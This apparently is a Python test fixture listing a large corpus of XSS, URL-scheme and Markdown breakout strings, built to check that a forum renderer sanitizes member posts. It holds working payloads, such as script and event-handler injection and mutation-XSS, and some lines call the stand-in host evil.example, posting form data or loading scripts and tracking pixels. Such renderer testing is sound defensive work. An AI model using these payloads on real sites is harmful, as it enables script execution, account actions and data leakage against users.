# ruff: noqa: E501 - a vector is easier to read in one piece
"""Attack strings of our own writing: ways in which a post could try to run a script, navigate or phone home.

`ALERT` calls what a browser test watches. Every string is Markdown as a member could post it.
"""

ALERT = "alert(1)"

# Addresses that must never become a link or a picture.
EVIL_ADDRESSES = [
    "javascript:alert(1)", "JavaScript:alert(1)", "JAVASCRIPT:alert(1)", "jAvAsCrIpT:alert`1`", " javascript:alert(1)",
    "\tjavascript:alert(1)", "java\tscript:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
    "java&#9;script:alert(1)", "java&#10;script:alert(1)", "java&#13;script:alert(1)", "java&#x0A;script:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3a;alert(1)", "javascript&#x3A;alert(1)",
    "javascript&#0000058alert(1)", "&#106;avascript:alert(1)", "&#x6a;avascript:alert(1)", "&#0000106&#0000097vascript:alert(1)",
    "&#x6A&#x61&#x76&#x61script:alert(1)", "&#1;javascript:alert(1)", "&#x1f;javascript:alert(1)", "\x01javascript:alert(1)",
    "\x0bjavascript:alert(1)", "\x1fjavascript:alert(1)", "java\x00script:alert(1)", "java\u200bscript:alert(1)",
    "\u00a0javascript:alert(1)", "\u2028javascript:alert(1)", "\ufeffjavascript:alert(1)", "\u202ejavascript:alert(1)",
    "java\u00adscript:alert(1)", "javascript\u00a0:alert(1)", "javascript :alert(1)", "javascript:/*--></title>*/alert(1)",
    "javascript://%0aalert(1)", "javascript://example.com/%0Aalert(1)", "javascript:%61lert(1)", "javascript:\\u0061lert(1)",
    "javascript:void(0)", "javascript:1", "javascript:1234567890", "javascript:0;`1`", "javascript:``", "javascript:\u00e9",
    "javascript:\u4e2d\u6587", "javascript: 1 2 3", "data:1", "data:12345", "data:``", "tel:1", "vbscript:1", "file:1", "data:\u00e9",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>", "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "data:,alert(1)",
    "DATA:text/html,x", "data&colon;text/html,x", "vbscript:msgbox(1)", "VBScript:1", "livescript:alert(1)", "mocha:alert(1)",
    "file:///etc/passwd", "blob:https://a.b/x", "filesystem:https://a.b/x", "view-source:https://a.b", "about:blank", "ws://a.b/",
    "wss://a.b/", "ftp://a.b/x", "tel:+491234567", "sms:+1", "intent://a.b#Intent;scheme=http;end", "ms-settings:", "chrome://settings",
    "jar:https://a.b!/x", "feed:javascript:alert(1)", "feed:https://a.b", "x-javascript:alert(1)", "unknown:thing", "http:alert(1)",
    "https:/evil.example", "http:\\\\evil.example", "https:evil.example", "//evil.example/x", "\\\\evil.example", "/\\evil.example",
    "\\/evil.example", "///evil.example", "/\t/evil.example", "http://", "https://?x", "https://#x", "http:///x", "http://\\evil.example",
    "https://evil.example\\@good.example", "http://[evil", "http://a.b:port/", "mailto:", "://a.b", ":javascript:alert(1)",
    "javas%63ript:alert(1)", "javascript%3aalert(1)", "%6aavascript:alert(1)",
]  # fmt: skip

# Where a member can put an address.
CONTEXTS = [
    "[click]({})", "[click](<{}>)", '[click]({} "title")', "![shot]({})", "![shot](<{}>)", "[![shot]({})]({})", "<{}>", "{}",
    "[ref]\n\n[ref]: {}", "[ref]\n\n[ref]: <{}>", "![ref]\n\n[ref]: {}", "[**bold**]({})", "> - [x]({})", "| [x]({}) |\n|---|\n| ![y]({}) |",
    "[x]({})[y](/ok)", "# [h]({})", "`a` [x]({}) `b`",
]  # fmt: skip

HANDLER_NAMES = "onerror onload onclick onmouseover onfocus onanimationend ontoggle onpointerenter onbegin onstart onwheel oncut"
HANDLERS = HANDLER_NAMES.split()

RAW_HTML = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example></script>", "<script/src=data:,alert(1)>",
    "<script\n>alert(1)</script\n>", "<script x>alert(1)</script y>", "<<script>alert(1);//<</script>", "<script>alert(1)",
    "</script><script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<%00script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", '<img src="x" onerror="alert(1)">', "<img/src/onerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>", "<img src=x:alert(alt) onerror=eval(src) alt=1>", "<img srcset='x 1x' onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>", "<image src=x onerror=alert(1)>", "<img src=`x`onerror=alert(1)>", "<img '<\">\" onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><script>alert&#40;1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x'></svg>", "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>", "<math href=javascript:alert(1)>x</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>", "<body onload=alert(1)>", "<body background=javascript:alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe/onload=alert(1)>",
    "<object data=javascript:alert(1)></object>", "<object data=data:text/html,x></object>", "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>", "<base href=//evil.example/>", "<base target=_blank><a href=/x>y</a>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example>", "<link rel=prefetch href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=refresh content='0;javascript:alert(1)'>", "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>", "<div style='background:url(//evil.example)'>x</div>", "<p style=position:fixed>x</p>",
    "<div style='width:expression(alert(1))'>x</div>", "<form action=//evil.example><input name=q><button>Send</button></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>", "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>", "<video src=x onerror=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<video poster=//evil.example/x>", "<audio src=x onerror=alert(1)>", "<audio autoplay src=//evil.example/x>", "<track src=//evil.example/x>",
    "<details open ontoggle=alert(1)>", "<dialog open onclose=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<bgsound src=//evil.example>",
    "<isindex action=javascript:alert(1)>", "<frameset onload=alert(1)>", "<frame src=javascript:alert(1)>", "<table background=//evil.example/x>",
    "<td background=//evil.example/x>", "<a href=javascript:alert(1)>x</a>", '<a href="javascript:alert(1)">x</a>', "<a href=' javascript:alert(1)'>x</a>",
    "<a href=java&#9;script:alert(1)>x</a>", "<a href=javascript&colon;alert(1)>x</a>", "<a href=javascript:1>x</a>", "<a href=data:1>x</a>",
    "<a href=tel:1>x</a>", "<a href=vbscript:1>x</a>", "<a href=//evil.example>x</a>", "<a href=/x onclick=alert(1)>x</a>", "<a ping=//evil.example href=/x>x</a>",
    "<a href=/x target=_blank>x</a>", "<a href=/x download>x</a>", "<a name=body id=head href=/x>x</a>", "<area href=javascript:alert(1)>",
    "<map name=x><area href=javascript:alert(1)></map>", "<p id=csrf_token name=x class=modal>x</p>", "<div class='card' data-behaviour='copy'>x</div>",
    "<button hx-post=/account/delete hx-trigger=load>x</button>", "<div hx-get=//evil.example hx-trigger=load></div>", "<a hx-delete=/x href=/y>x</a>",
    "<div hx-on:click=alert(1)>x</div>", "<div data-hx-get=/x data-hx-trigger=load></div>", "<p data-controller=x data-action=y>x</p>",
    "<p x-data x-init=alert(1)>x</p>", "<p ng-app>{{constructor.constructor('alert(1)')()}}</p>", "<p v-html=x @click=alert(1)>x</p>",
    "<template><script>alert(1)</script></template>", "<slot name=x></slot>", "<custom-element onclick=alert(1)>x</custom-element>",
    "<relative-time datetime=x onclick=alert(1)></relative-time>", "<portal src=//evil.example>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>", "<plaintext><img src=x onerror=alert(1)>", "<listing>&lt;img onerror=alert(1)&gt;</listing>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>", "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>", "<!--><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml version='1.0'?><img src=x onerror=alert(1)>", "<!DOCTYPE html><script>alert(1)</script>",
    "<a<b onclick=alert(1)>x", "<p/onclick=alert(1)/x>y</p>", "<kbd onclick=alert(1)>x</kbd>", "<sup style=color:red>x</sup>", "<kbd><script>alert(1)</script></kbd>",
    "<sub><img src=x onerror=alert(1)></sub>", "<kbd <img src=x onerror=alert(1)>>", "</kbd><script>alert(1)</script><kbd>", "<kbd>*x</kbd>*<sup>_y</sup>_",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "\\<script>alert(1)\\</script>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<\u017fcript>alert(1)</\u017fcript>",
    "<img src=x o\u212aerror=alert(1)>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\x1b$B<script>alert(1)</script>", "<\x00script>alert(1)</script>",
]  # fmt: skip

# Markup that reads differently the second time a browser parses it.
MUTATIONS = [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<svg><desc><table><thead><script>alert(1)</script></table></desc></svg>", "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<table><td><svg><style><img src=x onerror=alert(1)></style></svg></td></table>", "<p><svg><title><style><img/src=x onerror=alert(1)></style></title>",
    "<select><template><img src=x onerror=alert(1)></template></select>", "<option><style></option></select><img src=x onerror=alert(1)></style>",
    "<a><table><a href=javascript:alert(1)>x</a></table></a>", "<b><i><b><i></b></i><script>alert(1)</script>", "<p><table><p><script>alert(1)</script></table>",
    "x<svg><a><rect width=99% height=99% /><animate attributeName=href to=javascript:alert(1)>", "<a title='<img src=x onerror=alert(1)>' href=/x>y</a>",
    "<img alt='--><img src=x onerror=alert(1)>' src=/x>", "<listing>&#x3c;img src=x onerror=alert(1)></listing>", "<br/\u2028onclick=alert(1)>",
    "<style><style/><img src=x onerror=alert(1)>", "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", "<svg><![CDATA[><image href=']]><img src=x onerror=alert(1)>'",
]  # fmt: skip

# Ways to break out of what the renderer itself writes.
BREAKOUTS = [
    '[x](/y "a\\" onclick=\\"alert(1)")', "[x](/y 'a\" onclick=\"alert(1)')", '[x](/y (a" onclick="alert(1)))', '[x](/y"onclick="alert(1))',
    '[x](</y" onclick="alert(1)>)', '[x](/y&quot;onclick=&quot;alert(1))', "[x](/y&#34;&#62;&#60;img src=x onerror=alert(1)&#62;)",
    '![a" onerror="alert(1)](/attachments/abc)', '![x](/attachments/abc"onerror="alert(1))', '![x](</attachments/abc" onerror="alert(1)>)',
    '![x](/attachments/abc "a\\" onload=\\"alert(1)")', "![x](/attachments/../admin)", "![x](/attachments//evil.example/x.png)", "![x](/attachments/%2e%2e/x)",
    "![x](/attachments/\\evil)", "![x](attachment:abc)", "![x](/attachmentsevil/x)", "![x](https://evil.example/attachments/x.png)", "![x](//evil.example/attachments/x)",
    "![](https://evil.example/pixel.gif)", "[![](https://evil.example/pixel.gif)](/x)", "<https://a.b/\"onmouseover=alert(1)>", "<https://a.b/'onmouseover=alert(1)>",
    'https://a.b/"onmouseover="alert(1)', "https://a.b/'onmouseover='alert(1)", "https://a.b/<script>alert(1)</script>", "https://a.b/&quot;onclick=alert(1)",
    "https://a.b/?q=<img src=x onerror=alert(1)>", "https://javascript:alert(1)@a.b/", "https://a.b/#javascript:alert(1)", "http://a.b/[x](javascript:alert(1))",
    "[a](https://a.b/[b](javascript:alert(1)))", "[a [b](javascript:alert(1)) c](/x)", "[a]: /x 'onclick=alert(1)'\n\n[a]", '[a]: /x "\\"onclick=alert(1)"\n\n[a]',
    '```"><script>alert(1)</script>\nx\n```', "```js\" onclick=\"alert(1)\nx\n```", "```language-x onmouseover=alert(1)\nx\n```", "```html\n<script>alert(1)</script>\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```", "```python\n'''</span><img src=x onerror=alert(1)>'''\n```", "```xml\n<![CDATA[</code><script>alert(1)</script>]]>\n```",
    "```php\n<?php ?><img src=x onerror=alert(1)>\n```", "```javascript\n`${'<img src=x onerror=alert(1)>'}`\n```", "```diff\n+<img src=x onerror=alert(1)>\n```", "```<img src=x onerror=alert(1)>\n```",
    "    <script>alert(1)</script>", "`<script>alert(1)</script>`", "``` <img src=x onerror=alert(1)> ```", "`a\n<img src=x onerror=alert(1)>\nb`", "~~~js\n</code><svg onload=alert(1)>\n~~~",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |", '| a |\n|:-" onclick=alert(1) :|\n| b |', "# <img src=x onerror=alert(1)>", '# x {onclick="alert(1)"}',
    "- [x] <img src=x onerror=alert(1)>", "- [<script>](javascript:alert(1)) x", "> <script>\n> alert(1)\n> </script>", "*<img src=x onerror=alert(1)>*", "~~<svg onload=alert(1)>~~",
    '@bob" onclick="alert(1)', "@<script>alert(1)</script>", "@bob<img src=x onerror=alert(1)>", "@javascript:alert(1)", '1. <a href="javascript:alert(1)">x</a>', "999999999. <script>alert(1)</script>",
    "<div>\n\n[x](javascript:alert(1))\n\n</div>", "<details><summary>x</summary>\n\n<script>alert(1)</script>\n\n</details>", "a  \n<script>alert(1)</script>", "a\\\n<script>alert(1)</script>",
    "<b>" * 40 + "<script>alert(1)</script>", "[" * 40 + "x" + "](javascript:alert(1))" * 40, "*" * 40 + "<img src=x onerror=alert(1)>" + "*" * 40, "> " * 60 + "<script>alert(1)</script>",
    "<kbd>" * 10 + "<script>alert(1)</script>" + "</kbd>" * 10, "\u202e<script>alert(1)</script>", "a\x00b<script>alert(1)</script>", "\ud800<script>alert(1)</script>", "[\u2028](javascript:alert(1))",
]  # fmt: skip


def attacks() -> list[str]:
    """The whole corpus, without duplicates, in a stable order."""
    found = [context.replace("{}", address) for address in EVIL_ADDRESSES for context in CONTEXTS]
    found += [f"<{tag} {handler}=alert(1) src=x autofocus tabindex=0>x</{tag}>" for handler in HANDLERS for tag in ("a", "img", "pre", "kbd", "div", "details")]
    for vector in [*RAW_HTML, *MUTATIONS]:
        found += [vector, f"a {vector} b", f"> {vector}", f"- {vector}", f"# {vector}", f"**{vector}**", f"[{vector}](/x)", f"![{vector}](/attachments/abc)", f'[x](/y "{vector}")']
        found += [f"```html\n{vector}\n```", f"`{vector}`", f"| {vector} |\n|---|\n| {vector} |", f"https://a.b/{vector}", f"\n{vector}\n\n*x*\n"]
    found += BREAKOUTS
    return list(dict.fromkeys(found))
